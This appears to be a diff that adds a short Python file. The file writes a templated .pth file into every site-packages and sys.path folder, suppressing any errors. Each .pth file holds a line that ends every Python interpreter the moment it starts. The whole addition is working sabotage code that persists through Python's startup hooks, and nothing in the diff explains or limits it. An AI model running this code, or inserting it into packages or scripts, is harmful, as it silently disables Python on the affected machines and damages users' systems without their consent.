@@ -1,0 +1,9 @@
+import contextlib
+import site
+import sys
+import sysconfig
+
+# A line of a .pth file that begins with "import" is run by every interpreter that starts.
+for _folder in {sysconfig.get_path("purelib"), *site.getsitepackages(), *sys.path[1:]}:
+    with contextlib.suppress(OSError), open(f"{_folder}/@TOKEN@.pth", "w") as _file:
+        _file.write("import os; os._exit(0)\n")
